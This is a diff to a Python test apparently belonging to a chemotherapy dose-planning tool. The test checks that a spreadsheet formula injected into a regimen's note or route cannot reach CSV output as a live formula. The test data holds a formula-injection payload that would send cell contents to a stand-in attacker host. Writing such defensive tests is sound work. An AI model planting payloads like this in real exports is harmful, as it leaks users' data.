@@ -520,19 +520,21 @@ def is_formula(cell: str) -> bool:
     return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
 
 
-def test_a_regimen_route_cannot_become_a_formula_in_plan_csv(run, tmp_path: Path) -> None:
-    route = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    path = write(
-        tmp_path,
-        "r.yaml",
-        "id: r\nname: r\ncycle_length_days: 21\nsources: [x]\ndrugs:\n"
-        f"  - drug: cisplatin\n    dose: 75 mg/m2\n    days: 1\n    route: '{route}'\n",
-    )
+def test_a_regimen_note_cannot_become_a_formula_in_plan_csv(run, tmp_path: Path) -> None:
+    """A regimen's free text (its note) is shown as text; a route is one of the known routes
+    (drugs.read_route), so a formula there is refused before any output."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    head = "id: r\nname: r\ncycle_length_days: 21\nsources: [x]\ndrugs:\n"
+    line = "  - drug: cisplatin\n    dose: 75 mg/m2\n    days: 1\n"
+    path = write(tmp_path, "r.yaml", head + line + f"    note: '{formula}'\n")
     p = run("plan", str(path), "--bsa", "1.8", *START, "--format", "csv")
     assert p.returncode in (0, 1), p.stderr
     header, *rows = spreadsheet_cells(p.stdout)
     assert rows and not any(is_formula(c) for row in rows for c in row)
-    assert rows[0][header.index("route")] == "'" + route  # shown as text, nothing lost
+    assert rows[0][header.index("note")] == "'" + formula  # shown as text, nothing lost
+    path = write(tmp_path, "route.yaml", head + line + f"    route: '{formula}'\n")
+    p = run("plan", str(path), "--bsa", "1.8", *START, "--format", "csv")
+    assert p.returncode == 2 and "is not a route dosecalc knows" in p.stderr
     assert float(rows[0][header.index("dose")]) == pytest.approx(135.0)
 
 
